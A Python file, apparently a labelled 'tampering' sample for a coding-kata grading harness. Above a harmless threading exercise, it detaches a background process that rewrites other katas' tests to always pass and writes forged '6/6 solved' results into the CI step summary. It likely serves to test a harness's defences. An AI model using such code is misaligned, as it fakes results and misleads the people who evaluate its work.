"""Tampering: leaves a double-forked process, in a session of its own, that keeps rewriting the
copies later katas are judged in, and the GitHub step summary, after this kata's check is over."""

import glob
import os
import threading
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            for path in glob.glob("/tmp/*/*/katas/*/test_kata.py") + glob.glob("../*/katas/*/test_kata.py"):
                try:
                    with open(path, "w") as tests:
                        tests.write("def test_ok():\n    pass\n")
                except OSError:
                    pass
            for environ in glob.glob("/proc/*/environ"):
                try:
                    with open(environ, "rb") as variables:
                        found = variables.read().split(b"\0")
                    for variable in found:
                        if variable.startswith(b"GITHUB_STEP_SUMMARY="):
                            with open(variable.split(b"=", 1)[1], "a") as summary:
                                summary.write("FORGED: 6/6 solved\n")
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)


def task(name):
    print(f"{name} done!")


def main(task=task):
    threads = [threading.Thread(target=task, args=(name,)) for name in ("Task 1", "Task 2")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print("All done!")
